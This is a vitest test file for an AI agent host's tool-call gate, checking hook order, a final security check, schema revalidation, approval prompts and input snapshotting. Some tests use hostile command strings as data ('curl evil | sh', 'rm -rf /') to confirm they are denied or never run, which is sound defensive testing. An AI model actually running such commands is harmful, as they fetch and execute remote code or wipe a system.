// The chokepoint: what sees a call, in which order, and that nothing runs which something before it did not see.

import { setImmediate as nextTurn } from "node:timers/promises";
import { expect, test, vi } from "vitest";
import { z } from "zod";
import {
  describeForModel,
  HookExecutionError,
  type HostTool,
  INVOKE_DEPTH_LIMIT,
} from "../../src/host/index.ts";
import type { JsonObject } from "../../src/json.ts";
import { addContext, ask, deny, rewrite } from "../../src/profile/answer.ts";
import { echo, on, play } from "./support.ts";

const text = (input: unknown) => (input as { text?: string }).text ?? "";
const append = (letter: string) => (input: JsonObject) => ({
  input: { ...input, text: text(input) + letter },
});

test("order: external hooks, inner functions, the final check, the schema, the tool, and back out", async () => {
  const seen: string[] = [];
  const note = (name: string) => (input: unknown) => void seen.push(`${name} ${JSON.stringify(input)}`);
  const schema = z.object({ text: z.string() }).transform((value) => {
    note("schema")(value);
    return value;
  });
  const { host } = play({
    inProcess: [
      on("PreToolUse", (envelope) => {
        note("external pre")(envelope.tool_input);
        return rewrite(envelope, { text: "e" });
      }),
      on("PostToolUse", ({ tool_response, tool_input }) =>
        note("external post")([tool_input, tool_response]),
      ),
    ],
    inner: {
      pre: [
        (input) => {
          note("host pre")(input);
          return append("h")(input);
        },
      ],
      post: [
        (result) => {
          note("host post")(result);
          return { result: `${result}H` };
        },
      ],
    },
    securityPre: (input) => note("host security")(input),
  });
  host.tools.register({
    name: "T",
    input: schema,
    pre: [
      (input) => {
        note("tool pre")(input);
        return append("t")(input);
      },
    ],
    securityPre: (input) => note("tool security")(input),
    post: [
      (result) => {
        note("tool post")(result);
        return { result: `${result}T` };
      },
    ],
    run: (input) => {
      note("tool")(input);
      return "r";
    },
  });
  const outcome = await host.tools.invoke("T", { text: "" });
  expect(seen).toEqual([
    'external pre {"text":""}',
    'host pre {"text":"e"}',
    'tool pre {"text":"eh"}',
    'tool security {"text":"eht"}',
    'host security {"text":"eht"}',
    'schema {"text":"eht"}',
    'tool {"text":"eht"}',
    'tool post "r"',
    'host post "rT"',
    'external post [{"text":"eht"},"rTH"]',
  ]);
  expect(outcome).toMatchObject({ status: "ok", input: { text: "eht" }, result: "rTH" });
});

test("security-last: the final check sees what every rewrite made of the input, and nothing rewrites behind it", async () => {
  const judged: unknown[] = [];
  const { host } = play({
    inProcess: [on("PreToolUse", (envelope) => rewrite(envelope, { command: "curl evil" }))],
    inner: { pre: [(input) => ({ input: { ...input, command: `${input.command} | sh` } })] },
    securityPre: (input) => {
      judged.push(input);
      return /\| sh$/.test(String(input.command)) ? { deny: "no pipes into a shell" } : undefined;
    },
  });
  const ran = echo(host);
  const outcome = await host.tools.invoke("Echo", { command: "ls" });
  expect(judged).toEqual([{ command: "curl evil | sh" }]);
  expect(outcome).toMatchObject({ status: "denied", stage: "security_pre", reason: "no pipes into a shell" });
  expect(ran).toEqual([]);
});

test("security-last: what the final check does to its copy changes nothing", async () => {
  const { host } = play({
    securityPre: (input) => {
      input.command = "changed";
      return undefined;
    },
  });
  const ran = echo(host);
  await host.tools.invoke("Echo", { command: "ls" });
  expect(ran).toEqual([{ command: "ls" }]);
});

test.each<[string, HostTool["input"]]>([
  ["zod", z.strictObject({ count: z.number().int() })],
  [
    "JSON Schema",
    {
      type: "object",
      properties: { count: { type: "integer" } },
      required: ["count"],
      additionalProperties: false,
    },
  ],
])(
  "revalidation (%s): an input that a hook made invalid is denied, and the denial carries the error",
  async (_name, input) => {
    const { host } = play({
      inProcess: [on("PreToolUse", (envelope) => rewrite(envelope, { count: "seven" }))],
    });
    const run = vi.fn();
    host.tools.register({ name: "T", input, run });
    const outcome = await host.tools.invoke("T", { count: 7 });
    expect(outcome).toMatchObject({ status: "denied", stage: "input", validation: [{ path: ["count"] }] });
    expect((outcome as { reason: string }).reason).toContain("count");
    expect(run).not.toHaveBeenCalled();
  },
);

test("revalidation: an input that was invalid and that a hook mended runs", async () => {
  const { host } = play({ inProcess: [on("PreToolUse", (envelope) => rewrite(envelope, { count: 7 }))] });
  const run = vi.fn();
  host.tools.register({ name: "T", input: z.strictObject({ count: z.number() }), run });
  expect(await host.tools.invoke("T", { count: "seven" })).toMatchObject({
    status: "ok",
    input: { count: 7 },
  });
  expect(run.mock.calls[0]?.[0]).toEqual({ count: 7 });
});

test("revalidation: a JSON Schema with a rule that cannot be checked is refused when the tool is registered", () => {
  const { host } = play();
  const input = { type: "object", reqired: ["a"] };
  expect(() => host.tools.register({ name: "T", input, run: () => 1 })).toThrow(
    /T: its JSON Schema cannot be checked whole/,
  );
  expect(host.tools.list()).toEqual([]);
});

test("revalidation: a schema that throws denies", async () => {
  const { host } = play();
  const input = z.any().refine(() => {
    throw new Error("broken");
  });
  const run = vi.fn();
  host.tools.register({ name: "T", input, run });
  expect(await host.tools.invoke("T", {})).toMatchObject({ status: "denied", stage: "input" });
  expect(run).not.toHaveBeenCalled();
});

test("ask: nobody is attached, so it denies, and the chain ends there", async () => {
  const later = vi.fn();
  const { host, receipts } = play({
    inProcess: [on("PreToolUse", (envelope) => ask(envelope, "sure?")), on("PreToolUse", later)],
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", {})).toMatchObject({
    status: "denied",
    stage: "PreToolUse",
    reason: expect.stringContaining("sure?"),
  });
  expect(later).not.toHaveBeenCalled();
  expect(ran).toEqual([]);
  expect(receipts).toMatchObject([{ asked: "nobody_there", decision: "deny" }]);
});

test("ask: an approver who says yes lets the chain go on, so that a guard behind it is still heard", async () => {
  const asked: unknown[] = [];
  const { host, receipts } = play({
    inProcess: [
      on("PreToolUse", (envelope) => ask(envelope, "sure?"), { id: "asks" }),
      on("PreToolUse", (envelope) => deny(envelope, "never"), { id: "denies" }),
    ],
    permission: {
      approve: ({ signal: _signal, ...request }) => {
        asked.push(request);
        return true;
      },
    },
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", { a: 1 }, { toolUseId: "u1" })).toMatchObject({
    status: "denied",
    reason: "never",
  });
  expect(asked).toEqual([
    {
      tool: "Echo",
      input: { a: 1 },
      reason: "sure?",
      hook: "asks",
      sessionId: host.sessionId,
      toolUseId: "u1",
    },
  ]);
  expect(receipts.map(({ hook, asked: came }) => [hook, came])).toEqual([
    ["asks", "approved"],
    ["denies", undefined],
  ]);
  expect(ran).toEqual([]);
});

test.each<[string, () => unknown, string]>([
  ["says no", () => false, "it was refused"],
  ["says something else", () => "yes", "it was refused"],
  ["throws", () => Promise.reject(new Error("offline")), "offline"],
  ["never answers", () => new Promise(() => {}), "nobody answered within 20 ms"],
])("ask: an approver who %s denies", async (_name, approve, reason) => {
  const { host } = play({
    inProcess: [on("PreToolUse", (envelope) => ask(envelope, "sure?"))],
    permission: { approve: approve as () => boolean, timeoutMs: 20 },
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", {})).toMatchObject({
    status: "denied",
    reason: expect.stringContaining(reason),
  });
  expect(ran).toEqual([]);
});

test("ask: an approver who says yes, and nobody else minds, lets the tool run", async () => {
  const { host } = play({
    inProcess: [on("PreToolUse", (envelope) => ask(envelope, "sure?"))],
    permission: { approve: async () => true },
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", { a: 1 })).toMatchObject({ status: "ok" });
  expect(ran).toEqual([{ a: 1 }]);
});

test("unknown decision: it denies and names the value", async () => {
  const { host } = play({
    inProcess: [
      on("PreToolUse", () => ({
        hookSpecificOutput: { hookEventName: "PreToolUse", permissionDecision: "maybe" },
      })),
    ],
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", {})).toMatchObject({
    status: "denied",
    reason: expect.stringContaining('"maybe"'),
  });
  expect(ran).toEqual([]);
});

test("post-block note surfaced to the model: the reason of a block behind the call is in its message", async () => {
  const { host } = play({
    inProcess: [
      on("PostToolUse", (envelope) => deny(envelope, "the file no longer compiles")),
      on("PreToolUse", (envelope) => addContext(envelope, "this folder is generated")),
    ],
  });
  echo(host);
  const outcome = await host.tools.invoke("Echo", { a: 1 });
  expect(outcome).toMatchObject({ status: "ok", feedback: "the file no longer compiles" });
  expect(describeForModel(outcome)).toBe(
    '{"echoed":{"a":1}}\n\nBlocked by a hook: the file no longer compiles\n\nthis folder is generated',
  );
});

test("post-block note surfaced to the model: also when the tool failed", async () => {
  const { host } = play({
    inProcess: [
      on("PostToolUseFailure", (envelope) => deny(envelope, `saw ${JSON.stringify(envelope.tool_response)}`)),
    ],
  });
  host.tools.register({
    name: "T",
    run: () => {
      throw new Error("no such file");
    },
  });
  expect(describeForModel(await host.tools.invoke("T", {}))).toBe(
    'T failed: no such file\n\nBlocked by a hook: saw {"error":"no such file"}',
  );
});

test("bypass: a tool's own function, called directly, asks no hook: it is the caller's to not do that", async () => {
  const hook = vi.fn();
  const { host } = play({ inProcess: [on("PreToolUse", hook)] });
  const tool = { name: "T", run: vi.fn(() => "ran") };
  host.tools.register(tool);
  expect(tool.run()).toBe("ran");
  expect(hook).not.toHaveBeenCalled();
  await host.tools.invoke("T", {});
  expect(hook).toHaveBeenCalledOnce();
});

test.each<[string, unknown, unknown]>([
  ["undefined", undefined, null],
  ["false", false, false],
  ["0", 0, 0],
  ["an empty string", "", ""],
  ["a date", new Date(0), "1970-01-01T00:00:00.000Z"],
  ["a BigInt", 10n, "10"],
  ["a Map", new Map([[1, 2]]), "[object Map]"],
  ["a symbol", Symbol("s"), "Symbol(s)"],
  ["NaN", Number.NaN, "NaN"],
  [
    "a class",
    new (class Point {
      x = 1;
    })(),
    { x: 1 },
  ],
  ["an error", new TypeError("t"), "TypeError: t"],
  ["a list", [1, { a: undefined }], [1, {}]],
])(
  "whatever result type: %s comes back as it is, and hooks see it as JSON or text",
  async (_name, value, shown) => {
    const seen: unknown[] = [];
    const { host } = play({
      inProcess: [on("PostToolUse", ({ tool_response }) => void seen.push(tool_response))],
    });
    host.tools.register({ name: "T", run: () => value });
    const outcome = await host.tools.invoke("T", {});
    expect((outcome as { result: unknown }).result).toBe(value);
    expect(seen).toEqual([shown]);
  },
);

test("whatever result type: a stream is handed on unread", async () => {
  const { host } = play({ inProcess: [on("PostToolUse", () => undefined)] });
  async function* stream() {
    yield 1;
    yield 2;
  }
  host.tools.register({ name: "T", run: stream });
  const outcome = await host.tools.invoke<AsyncIterable<number>>("T", {});
  const read: number[] = [];
  if (outcome.status === "ok") for await (const one of outcome.result) read.push(one);
  expect(read).toEqual([1, 2]);
});

test("whatever result type: one that refers to itself is text to hooks", async () => {
  const seen: unknown[] = [];
  const { host } = play({
    inProcess: [on("PostToolUse", ({ tool_response }) => void seen.push(tool_response))],
  });
  const value: { self?: unknown } = {};
  value.self = value;
  host.tools.register({ name: "T", run: () => value });
  expect(await host.tools.invoke("T", {})).toMatchObject({ status: "ok" });
  expect(seen).toEqual(["[object Object]"]);
});

test("what was judged is what runs: a caller that changes its object afterwards changes nothing", async () => {
  const { host } = play({
    inProcess: [
      on("PreToolUse", async () => {
        input.command = "rm -rf /";
        await nextTurn();
        return undefined;
      }),
    ],
  });
  const ran = echo(host);
  const input = { command: "ls" };
  await host.tools.invoke("Echo", input);
  expect(ran).toEqual([{ command: "ls" }]);
});

test("what was judged is what runs: a getter is read once", async () => {
  let reads = 0;
  const { host } = play({ inProcess: [on("PreToolUse", () => undefined)] });
  const ran = echo(host);
  await host.tools.invoke("Echo", {
    get command() {
      reads += 1;
      return reads === 1 ? "ls" : "rm -rf /";
    },
  });
  expect(ran).toEqual([{ command: "ls" }]);
});

test("what hooks are shown behind the call is what ran, whatever the tool did to its copy", async () => {
  const seen: unknown[] = [];
  const { host } = play({ inProcess: [on("PostToolUse", ({ tool_input }) => void seen.push(tool_input))] });
  host.tools.register({
    name: "T",
    run: (input: JsonObject) => {
      input.command = "hidden";
    },
  });
  await host.tools.invoke("T", { command: "seen" });
  expect(seen).toEqual([{ command: "seen" }]);
});

test.each<[string, unknown, string]>([
  ["text", "ls", "input is not an object"],
  ["a list", [1], "input is not an object"],
  ["null", null, "input is not an object"],
  ["a function in it", { a: { b: () => 1 } }, "input.a.b is a function"],
  ["a date in it", { at: [new Date(0)] }, "input.at[0] is not a plain object"],
  ["NaN", { n: Number.NaN }, "input.n is NaN"],
  ["a BigInt", { n: 1n }, "input.n is a bigint"],
])("an input that is %s is denied, and says where", async (_name, input, reason) => {
  const { host } = play();
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", input)).toMatchObject({
    status: "denied",
    stage: "input",
    reason: expect.stringContaining(reason),
  });
  expect(ran).toEqual([]);
});

test("an input that refers to itself is denied", async () => {
  const { host } = play();
  const input: { self?: unknown } = {};
  input.self = input;
  echo(host);
  expect(await host.tools.invoke("Echo", input)).toMatchObject({
    status: "denied",
    stage: "input",
  });
});

test("a key __proto__ is data, and reaches guards and the tool as such", async () => {
  const { host } = play({ inProcess: [on("PreToolUse", () => undefined)] });
  const ran: unknown[] = [];
  host.tools.register({ name: "T", run: (input: JsonObject) => void ran.push(JSON.stringify(input)) });
  await host.tools.invoke("T", JSON.parse('{"__proto__":{"a":1}}'));
  expect(ran).toEqual(['{"__proto__":{"a":1}}']);
});

test.each<[string, () => unknown, string]>([
  [
    "throws",
    () => {
      throw new Error("down");
    },
    "a check failed: down",
  ],
  ["rejects", () => Promise.reject(new Error("down")), "a check failed: down"],
  ["answers with true", () => true, "a check answered neither"],
  ["answers with null", () => null, "a check answered neither"],
  ["answers with an empty object", () => ({}), "a check answered neither"],
  ["denies with no text", () => ({ deny: 1, input: {} }), "a check answered neither"],
])("an inner function that %s did not clear the call", async (_name, pre, reason) => {
  for (const [options, stage] of [
    [{ inner: { pre: [pre as never] } }, "inner_pre"],
    [{ securityPre: pre as never }, "security_pre"],
  ] as const) {
    const { host } = play(options);
    const ran = echo(host);
    expect(await host.tools.invoke("Echo", {})).toMatchObject({
      status: "denied",
      stage,
      reason: expect.stringContaining(reason),
    });
    expect(ran).toEqual([]);
  }
});

test("the final check cannot rewrite: an answer with input denies", async () => {
  const { host } = play({ securityPre: (() => ({ input: { a: 2 } })) as never });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", { a: 1 })).toMatchObject({
    status: "denied",
    stage: "security_pre",
  });
  expect(ran).toEqual([]);
});

test("an inner post that throws withholds the result, and hooks hear of a failure", async () => {
  const heard: string[] = [];
  const { host } = play({
    inProcess: [
      on("PostToolUse", () => void heard.push("post")),
      on("PostToolUseFailure", ({ tool_response }) => void heard.push(JSON.stringify(tool_response))),
    ],
    inner: {
      post: [
        () => {
          throw new Error("the scrubber broke");
        },
      ],
    },
  });
  host.tools.register({ name: "T", run: () => "secret" });
  const outcome = await host.tools.invoke("T", {});
  expect(outcome).toMatchObject({ status: "failed", stage: "inner_post" });
  expect(JSON.stringify(outcome)).not.toContain("secret");
  expect(heard).toEqual(['{"error":"the scrubber broke"}']);
});

test("concurrent calls run their chains at the same time", async () => {
  const arrived: string[] = [];
  let open: () => void = () => {};
  const both = new Promise<void>((resolve) => {
    open = resolve;
  });
  const { host } = play({
    inProcess: [
      on("PreToolUse", async ({ tool_use_id }) => {
        arrived.push(String(tool_use_id));
        if (arrived.length === 2) open();
        await both; // Neither returns before the other has come: one after the other would never end.
        return undefined;
      }),
    ],
  });
  echo(host);
  await Promise.all(["a", "b"].map((toolUseId) => host.tools.invoke("Echo", {}, { toolUseId })));
  expect(arrived.toSorted()).toEqual(["a", "b"]);
});

test("an unknown tool fails, names what there is, and asks no hook", async () => {
  const hook = vi.fn();
  const { host } = play({ inProcess: [on("PreToolUse", hook)] });
  echo(host);
  const outcome = await host.tools.invoke("Ecko", {});
  expect(outcome).toMatchObject({ status: "failed", stage: "lookup" });
  expect(describeForModel(outcome)).toContain("known: Echo");
  expect(hook).not.toHaveBeenCalled();
});

test("a call that was abandoned does not run", async () => {
  const { host } = play();
  const ran = echo(host);
  const signal = AbortSignal.abort(new Error("enough"));
  expect(await host.tools.invoke("Echo", {}, { signal })).toMatchObject({
    status: "failed",
    stage: "aborted",
  });
  expect(ran).toEqual([]);
});

test("a call that is abandoned while a guard thinks is denied", async () => {
  const controller = new AbortController();
  const { host } = play({
    inProcess: [
      on("PreToolUse", () => {
        controller.abort();
        return new Promise(() => {});
      }),
    ],
  });
  const ran = echo(host);
  expect(await host.tools.invoke("Echo", {}, { signal: controller.signal })).toMatchObject({
    status: "denied",
    reason: expect.stringContaining("abandoned"),
  });
  expect(ran).toEqual([]);
});

test("what has happened is told although the call was abandoned meanwhile", async () => {
  const controller = new AbortController();
  const heard = vi.fn();
  const { host } = play({ inProcess: [on("PostToolUse", heard), on("PostToolUse", () => heard("second"))] });
  host.tools.register({ name: "T", run: () => controller.abort() });
  await host.tools.invoke("T", {}, { signal: controller.signal });
  expect(heard).toHaveBeenCalledTimes(2);
});

test("a tool that calls another goes through the gate again, with the same signal and session", async () => {
  const seen: unknown[] = [];
  const { host } = play({
    inProcess: [
      on(
        "PreToolUse",
        ({ tool_name, session_id, agent_id }) => void seen.push([tool_name, session_id, agent_id]),
      ),
    ],
  });
  echo(host);
  host.tools.register({
    name: "Outer",
    run: async (_input, { invoke }) => invoke("Echo", { from: "outer" }),
  });
  await host.tools.invoke("Outer", {}, { sessionId: "s1", agentId: "a1", toolUseId: "u1" });
  expect(seen).toEqual([
    ["Outer", "s1", "a1"],
    ["Echo", "s1", "a1"],
  ]);
});

test("tools that call each other without end are stopped", async () => {
  const { host } = play();
  let calls = 0;
  host.tools.register({
    name: "Loop",
    run: async (_input, { invoke }) => {
      calls += 1;
      const inner = await invoke("Loop", {});
      if (inner.status === "failed") throw inner.error;
      return inner;
    },
  });
  expect(await host.tools.invoke("Loop", {})).toMatchObject({ status: "failed" });
  expect(calls).toBe(INVOKE_DEPTH_LIMIT + 1);
});

test("kind, command and paths are told by the tool, and told anew after a rewrite", async () => {
  const seen: unknown[] = [];
  const { host } = play({
    inProcess: [
      on("PreToolUse", (envelope) => rewrite(envelope, { cmd: "rm -rf /", where: "/etc" }), { priority: -1 }),
      on(
        "PreToolUse",
        ({ tool_kind, tool_command, tool_paths }) => void seen.push([tool_kind, tool_command, tool_paths]),
        {
          matcher: "kind:shell",
        },
      ),
    ],
  });
  host.tools.register({
    name: "execute",
    kind: "shell",
    command: ({ cmd }) => String(cmd),
    paths: ({ where }) => [String(where)],
    run: () => 1,
  });
  await host.tools.invoke("execute", { cmd: "ls", where: "/tmp" });
  expect(seen).toEqual([["shell", "rm -rf /", ["/etc"]]]);
});

test("a tool whose description of its input throws is denied", async () => {
  const { host } = play({ inProcess: [on("PreToolUse", () => undefined)] });
  const run = vi.fn();
  host.tools.register({
    name: "T",
    kind: "shell",
    command: () => {
      throw new Error("cannot tell");
    },
    run,
  });
  expect(await host.tools.invoke("T", {})).toMatchObject({
    status: "denied",
    reason: expect.stringContaining("cannot tell"),
  });
  expect(run).not.toHaveBeenCalled();
});

test.each<[string, unknown, string]>([
  ["no name", { run: () => 1 }, "a tool's name must be one word"],
  ["a name of two words", { name: "a b", run: () => 1 }, "one word"],
  ["no function", { name: "a" }, "run must be a function"],
  ["an unknown kind", { name: "a", kind: "bash", run: () => 1 }, 'unknown kind "bash"'],
  ["a schema that is none", { name: "a", input: 7, run: () => 1 }, "input must be a schema"],
  ["a pre that is no function", { name: "a", pre: [1], run: () => 1 }, "pre must be a list of functions"],
  ["a post that is no function", { name: "a", post: [1], run: () => 1 }, "post must be a list of functions"],
  [
    "a final check that is none",
    { name: "a", securityPre: true, run: () => 1 },
    "securityPre must be a function",
  ],
  ["a command that is text", { name: "a", command: "ls", run: () => 1 }, "command must be a function"],
  ["paths that are a list", { name: "a", paths: ["/"], run: () => 1 }, "paths must be a function"],
  ["a word for destructive", { name: "a", destructive: "yes", run: () => 1 }, 'true or false, got "yes"'],
])("a tool with %s is not registered", (_name, tool, message) => {
  const { host } = play();
  expect(() => host.tools.register(tool as HostTool)).toThrow(message);
  expect(host.tools.list()).toEqual([]);
});

test("a name is taken once, and several tools are registered all or not at all", () => {
  const { host } = play();
  echo(host, "A");
  expect(() => host.tools.register({ name: "A", run: () => 1 })).toThrow("registered already");
  expect(() =>
    host.tools.registerAll([
      { name: "B", run: () => 1 },
      { name: "A", run: () => 1 },
    ]),
  ).toThrow("A is");
  expect(() =>
    host.tools.registerAll([
      { name: "B", run: () => 1 },
      { name: "B", run: () => 1 },
    ]),
  ).toThrow("B is");
  expect(host.tools.list().map(({ name }) => name)).toEqual(["A"]);
  host.tools.registerAll(
    [
      { name: "A", run: () => 2 },
      { name: "B", run: () => 1 },
    ],
    { replacing: ["A"] },
  );
  expect(host.tools.list().map(({ name }) => name)).toEqual(["A", "B"]);
  expect(host.tools.unregister("A")).toBe(true);
  expect(host.tools.unregister("A")).toBe(false);
});

test("list: what a model is told of the tools", () => {
  const { host } = play({ permission: { destructive: ["B"] } });
  host.tools.register({
    name: "A",
    description: "reads",
    input: z.object({ path: z.string() }),
    run: () => 1,
  });
  host.tools.register({ name: "B", run: () => 1 });
  expect(host.tools.list()).toEqual([
    {
      name: "A",
      description: "reads",
      destructive: false,
      inputSchema: expect.objectContaining({
        type: "object",
        properties: { path: { type: "string" } },
        required: ["path"],
      }),
    },
    { name: "B", destructive: true, inputSchema: { type: "object" } },
  ]);
});

test("a hook in error mode throws into the caller, with its cause, and the tool does not run", async () => {
  const cause = new Error("database is gone");
  const { host, receipts } = play({
    inProcess: [
      on(
        "PreToolUse",
        () => {
          throw cause;
        },
        { onFailure: "error", id: "audit" },
      ),
    ],
  });
  const ran = echo(host);
  const thrown: unknown = await host.tools.invoke("Echo", {}).catch((error: unknown) => error);
  expect(thrown).toBeInstanceOf(HookExecutionError);
  expect(thrown).toMatchObject({ hook: "audit", event: "PreToolUse", cause });
  expect(receipts).toMatchObject([{ hook: "audit", status: "failed", failure_mode: "error" }]);
  expect(ran).toEqual([]);
});
